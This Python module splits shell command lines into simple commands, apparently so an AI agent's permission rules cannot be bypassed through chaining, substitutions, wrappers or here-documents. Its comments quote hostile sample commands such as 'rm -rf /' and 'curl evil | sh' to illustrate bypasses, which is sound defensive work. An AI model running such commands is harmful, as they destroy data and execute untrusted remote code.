"""Split a shell command line into the simple commands a scope rule must judge.

A rule like ``Bash(git status)`` must not allow ``git status && rm -rf /``, and
``echo "$(curl evil | sh)"`` hides two more commands inside a quoted word. So we lex with
the standard library's POSIX shell lexer (``shlex`` with punctuation characters, which
keeps the hook's import path lean) and split on every control operator, and we look inside
``$(...)`` and backticks recursively.

Anything we cannot lex (an unbalanced quote, say) is reported as unparseable: the caller
must then never *allow* the command on a rule, only ask or deny — fail closed.
"""

from __future__ import annotations

import re
import shlex

#: Tokens that end one simple command and start another.
SEPARATORS = frozenset(
    {"&&", "||", ";", "|", "&", "|&", ";;", ";&", ";;&", "\n", "(", ")", "{", "}"}
)
_PUNCTUATION = "();<>|&\n"
_ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
_MAX_DEPTH = 8
#: Commands that run their arguments as another command: that command is judged too.
_WRAPPERS = frozenset({
    "sudo", "doas", "env", "nice", "nohup", "time", "timeout", "xargs", "command", "exec",
    "builtin", "stdbuf", "ionice", "setsid", "chrt", "taskset", "unbuffer", "flock",
    "busybox",
})  # fmt: skip
#: Shells whose ``-c SCRIPT`` is parsed as a command line of its own.
_SHELLS = frozenset({"bash", "sh", "zsh", "dash", "ksh", "mksh", "ash", "fish"})
#: Reserved words that open a compound command: ``then rm -rf /`` runs ``rm``.
_RESERVED = frozenset({"!", "if", "then", "elif", "else", "do", "while", "until", "coproc"})
#: Words that only close one (nothing runs).
_CLOSERS = frozenset({"fi", "done", "esac"})
#: Options of a wrapper that take a value (``sudo -u root rm`` runs ``rm``, not ``root``).
_WRAPPER_ARGS: dict[str, frozenset[str]] = {
    "sudo": frozenset({"-u", "-g", "-C", "-p", "-r", "-t", "-U", "-D", "-h", "-T"}),
    "doas": frozenset({"-u", "-C"}),
    "env": frozenset({"-u", "-C", "-S", "--unset", "--chdir"}),
    "nice": frozenset({"-n", "--adjustment"}),
    "ionice": frozenset({"-c", "-n", "-p"}),
    "timeout": frozenset({"-s", "-k", "--signal", "--kill-after"}),
    "xargs": frozenset({"-n", "-I", "-P", "-L", "-s", "-d", "-a", "-E", "-i"}),
    "flock": frozenset({"-w", "-E", "-c"}),
    "exec": frozenset({"-a"}),
    "stdbuf": frozenset({"-i", "-o", "-e"}),
}
_DURATION = re.compile(r"^\d+(?:\.\d+)?[smhd]?$")


class ShellParseError(ValueError):
    """The command line could not be lexed; treat it as never auto-allowable."""


_HEREDOC_WORD_END = " \t\n;&|<>()"


def _heredoc_word(command: str, i: int) -> tuple[str, bool, int]:
    r"""The delimiter word of a here-document starting at ``i``: ``(delimiter, quoted, end)``.
    A quoted delimiter (``'EOF'``, ``"EOF"``, ``\EOF``) makes the body literal data."""
    while i < len(command) and command[i] in " \t":
        i += 1
    word: list[str] = []
    quoted = False
    while i < len(command) and command[i] not in _HEREDOC_WORD_END:
        ch = command[i]
        if ch in "'\"":
            close = command.find(ch, i + 1)
            if close < 0:
                raise ShellParseError("unterminated quote in a here-document delimiter")
            word.append(command[i + 1 : close])
            quoted, i = True, close + 1
            continue
        if ch == "\\" and i + 1 < len(command):
            word.append(command[i + 1])
            quoted, i = True, i + 2
            continue
        word.append(ch)
        i += 1
    if not word:
        raise ShellParseError("here-document without a delimiter")
    return "".join(word), quoted, i


def _prepare(command: str) -> str:
    """``command`` without what the shell does not run as commands: ``# comments`` and the
    bodies of here-documents with a quoted delimiter. One scan that knows quotes, ``$(...)``
    (a fresh context, also inside double quotes), backticks and arithmetic ``$((...))``, so
    ``echo '<<X'`` or ``$((1<<X))`` cannot hide the lines after them.

    Raises :class:`ShellParseError` (never auto-allowed) for what it cannot judge safely:
    ANSI-C quoting (``$'...'``), and a here-document with an unquoted delimiter whose body
    runs command substitutions.
    """
    out: list[str] = []
    stack: list[str] = [""]  # "" top level, "(" inside $( ), '"' double quotes, "`", "(("
    pending: list[tuple[str, bool, bool]] = []  # here-documents waiting for their body
    i, n = 0, len(command)
    while i < n:
        ch, ctx = command[i], stack[-1]
        if ctx == '"':
            if ch == "\\" and i + 1 < n:
                out.append(command[i : i + 2])
                i += 2
                continue
            if ch == '"':
                stack.pop()
            elif command.startswith("$((", i):
                stack.append("((")
                out.append("$((")
                i += 3
                continue
            elif command.startswith("$(", i):
                stack.append("(")
                out.append("$(")
                i += 2
                continue
            elif ch == "`":
                stack.append("`")
            out.append(ch)
            i += 1
            continue
        if ctx == "((":  # arithmetic: no comments, no here-documents
            if command.startswith("))", i):
                stack.pop()
                out.append("))")
                i += 2
                continue
            out.append(ch)
            i += 1
            continue
        # top level, inside $( ), or inside backticks: the shell's own grammar
        if ch == "\\" and i + 1 < n:
            out.append(command[i : i + 2])
            i += 2
            continue
        if ch == "'":
            close = command.find("'", i + 1)
            if close < 0:
                raise ShellParseError("unterminated single quote")
            out.append(command[i : close + 1])
            i = close + 1
            continue
        if command.startswith("$'", i):
            raise ShellParseError("ANSI-C quoting ($'...') is not judged")
        if ch == '"':
            stack.append('"')
        elif command.startswith("$((", i) or (command.startswith("((", i) and ctx == ""):
            width = 3 if ch == "$" else 2
            stack.append("((")
            out.append(command[i : i + width])
            i += width
            continue
        elif command.startswith("$(", i):
            stack.append("(")
            out.append("$(")
            i += 2
            continue
        elif ch == ")" and ctx == "(":
            stack.pop()
        elif ch == "`":
            if ctx == "`":
                stack.pop()
            else:
                stack.append("`")
        elif ch == "#" and (i == 0 or command[i - 1] in " \t\n;&|("):
            end = command.find("\n", i)
            i = n if end < 0 else end
            continue
        elif command.startswith("<<<", i):  # a here-string: its word is on this line
            out.append("<<<")
            i += 3
            continue
        elif command.startswith("<<", i):
            strip_tabs = command.startswith("<<-", i)
            start = i + (3 if strip_tabs else 2)
            delimiter, quoted, i = _heredoc_word(command, start)
            pending.append((delimiter, quoted, strip_tabs))
            out.append(command[start - (3 if strip_tabs else 2) : i])
            continue
        elif ch == "\n" and pending:
            out.append("\n")
            i = _skip_bodies(command, i + 1, pending)
            pending.clear()
            continue
        out.append(ch)
        i += 1
    return "".join(out)


def _skip_bodies(command: str, i: int, pending: list[tuple[str, bool, bool]]) -> int:
    """Skip the bodies of ``pending`` here-documents, which start at ``i``; return where
    the command line continues."""
    for delimiter, quoted, strip_tabs in pending:
        while i < len(command):
            end = command.find("\n", i)
            line = command[i:] if end < 0 else command[i:end]
            i = len(command) if end < 0 else end + 1
            if (line.lstrip("\t") if strip_tabs else line) == delimiter:
                break
            if not quoted and ("$(" in line or "`" in line):
                raise ShellParseError("a here-document body runs command substitutions")
    return i


def _substitutions(word: str) -> list[str]:
    """Return the bodies of ``$(...)`` and backtick substitutions inside one word."""
    found: list[str] = []
    i = 0
    while i < len(word):
        if word.startswith("$(", i) and not word.startswith("$((", i):
            depth, j = 1, i + 2
            while j < len(word) and depth:
                if word[j] == "(":
                    depth += 1
                elif word[j] == ")":
                    depth -= 1
                j += 1
            found.append(word[i + 2 : j - 1] if depth == 0 else word[i + 2 :])
            i = j
        elif word[i] == "`":
            j = word.find("`", i + 1)
            found.append(word[i + 1 :] if j < 0 else word[i + 1 : j])
            i = len(word) if j < 0 else j + 1
        else:
            i += 1
    return found


def _lex(command: str) -> list[str]:
    lexer = shlex.shlex(command, posix=True, punctuation_chars=_PUNCTUATION)
    lexer.whitespace = " \t\r"
    lexer.whitespace_split = True
    lexer.commenters = ""  # handled below: shlex's comments would swallow the newline
    try:
        return list(lexer)
    except ValueError as exc:
        raise ShellParseError(f"cannot parse shell command: {exc}") from None


def simple_commands(command: str, _depth: int = 0) -> list[str]:
    """Return every simple command in ``command`` as normalised text (words joined by one space).

    Quotes are removed (so ``git "push" --force`` is judged as ``git push --force``), leading
    ``VAR=value`` assignments are dropped, and substituted commands are listed after the
    command that contains them.
    """
    if _depth > _MAX_DEPTH:
        raise ShellParseError("command substitutions nested too deeply")
    tokens = _lex(_prepare(command))
    commands: list[str] = []
    nested: list[str] = []
    words: list[str] = []

    def flush() -> None:
        while words and words[0] in _RESERVED:
            words.pop(0)
        while words and _ASSIGNMENT.match(words[0]) and len(words) > 1:
            words.pop(0)
        if len(words) == 1 and words[0] in _CLOSERS:
            words.clear()
        if words:
            commands.append(" ".join(words))
            for inner in _unwrapped(words):
                commands.append(" ".join(inner))
                nested.extend(_scripts(inner, _depth))  # sudo -u root bash -c '...'
            nested.extend(_scripts(words, _depth))
            for script in _split_strings(words):
                nested.extend(simple_commands(script, _depth + 1))
        words.clear()

    for token in tokens:
        if token in SEPARATORS or (
            # '<(' and '>(' (process substitution), '((': grouped punctuation opening a command
            ("(" in token or ")" in token) and not token.strip(_PUNCTUATION)
        ):
            flush()
            continue
        words.append(token)
        if "$(" in token or "`" in token:
            for body in _substitutions(token):
                nested.extend(simple_commands(body, _depth + 1))
    flush()
    return commands + nested


def _name(word: str) -> str:
    return word.rsplit("/", 1)[-1]


def _unwrapped(words: list[str]) -> list[list[str]]:
    """``sudo rm -rf x`` also runs ``rm -rf x``: return each command a wrapper runs.

    These are *extra* parts: a deny rule on ``rm`` catches them, and an allow needs every
    part allowed, so wrapping never turns a refused command into an allowed one.
    """
    found: list[list[str]] = []
    rest = words
    while rest and _name(rest[0]) in _WRAPPERS:
        wrapper, rest = _name(rest[0]), rest[1:]
        takes_value = _WRAPPER_ARGS.get(wrapper, frozenset())
        while rest and (
            rest[0].startswith("-")
            or _ASSIGNMENT.match(rest[0])
            or (wrapper == "timeout" and _DURATION.match(rest[0]))
        ):
            rest = rest[2:] if rest[0] in takes_value else rest[1:]
        if rest:
            found.append(rest)
    # find -exec / -execdir / -ok CMD ... {} ;  runs CMD on every match.
    if words and _name(words[0]) == "find":
        for i, word in enumerate(words):
            if word in ("-exec", "-execdir", "-ok", "-okdir") and i + 1 < len(words):
                command = []
                for arg in words[i + 1 :]:
                    if arg in (";", "+"):
                        break
                    command.append(arg)
                if command:
                    found.append(command)
    return found


def _split_strings(words: list[str]) -> list[str]:
    """``env -S 'rm -rf /'``: the string env splits into a command line of its own."""
    found: list[str] = []
    for i, word in enumerate(words[:-1] if words else []):
        if _name(words[0]) != "env":
            break
        if word in ("-S", "--split-string"):
            found.append(words[i + 1])
    for word in words[1:] if words and _name(words[0]) == "env" else []:
        if word.startswith("--split-string="):
            found.append(word.split("=", 1)[1])
        elif word.startswith("-S") and len(word) > 2:
            found.append(word[2:])
    return found


def _scripts(words: list[str], depth: int) -> list[str]:
    """Commands hidden in a string another program runs: ``bash -c 'SCRIPT'``, ``eval ...``.

    A script that cannot be parsed raises, which makes the whole command unparseable (never
    auto-allowed) rather than silently unjudged.
    """
    for start in range(len(words)):
        name = _name(words[start])
        if name == "eval" and start + 1 < len(words):
            return simple_commands(" ".join(words[start + 1 :]), depth + 1)
        if name in _SHELLS:
            args = words[start + 1 :]
            for i, arg in enumerate(args):
                if not arg.startswith("-"):
                    break
                if "c" in arg[1:] and not arg.startswith("--") and i + 1 < len(args):
                    return simple_commands(args[i + 1], depth + 1)
            return []
        if name not in _WRAPPERS and not _ASSIGNMENT.match(words[start]):
            return []
    return []
